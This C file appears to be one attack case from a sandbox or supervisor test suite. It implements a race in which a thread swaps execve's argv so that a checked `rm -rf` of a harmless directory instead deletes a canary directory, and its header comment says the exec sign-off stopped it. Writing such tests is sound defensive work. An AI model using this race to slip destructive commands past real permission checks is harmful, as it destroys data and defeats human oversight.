// attack: race: a sibling thread flips execve's argv between `rm -rf ws/harmless` and `rm -rf $CANARY` while the exec is checked
// stopped by: sign-off(exec)
// Each round forks a child; in it one thread keeps swapping argv[2] while the other execs /bin/rm. The
// supervisor classifies the argv it read; the kernel copies argv again when the exec runs.
#define _GNU_SOURCE
#include "attack.h"
#include <pthread.h>
#include <stdatomic.h>
#include <sys/wait.h>

extern char **environ;
static char *volatile argv_[4];
static const char *canary_dir;
static const char *harmless = "race-harmless-dir";
static volatile int running;

static void *flipper(void *arg) {
    (void)arg;
    running = 1;
    for (;;) { argv_[2] = (char *)harmless; argv_[2] = (char *)canary_dir; }
    return NULL;
}

int main(void) {
    canary_dir = getenv("CANARY");
    if (!canary_dir) { fprintf(stderr, "CANARY not set\n"); return 2; }
    int rounds = 0, killed = 0, statuses[256] = {0};
    double deadline = now() + 6.0;
    struct stat st;
    while (now() < deadline && lstat(canary_dir, &st) == 0) {
        mkdir(harmless, 0755);
        fflush(stdout);
        pid_t pid = fork();
        if (pid == 0) {
            argv_[0] = "rm"; argv_[1] = "-rf"; argv_[2] = (char *)harmless; argv_[3] = NULL;
            pthread_t t;
            pthread_create(&t, NULL, flipper, NULL);
            while (!running) {}
            execve("/bin/rm", (char **)argv_, environ);
            _exit(100 + (errno & 127));
        }
        int status = 0;
        waitpid(pid, &status, 0);
        rounds++;
        if (WIFSIGNALED(status)) killed++;
        else statuses[WEXITSTATUS(status) & 255]++;
    }
    printf("%d rounds of a flipping rm argv; %d children killed by a signal\n", rounds, killed);
    for (int s = 0; s < 256; s++)
        if (statuses[s]) printf("  exit %d%s: %d\n", s, s >= 100 ? " (execve failed)" : "", statuses[s]);
    printf("canary_dir %s: %s\n", canary_dir, lstat(canary_dir, &st) == 0 ? "still there" : "GONE");
    return 0;
}
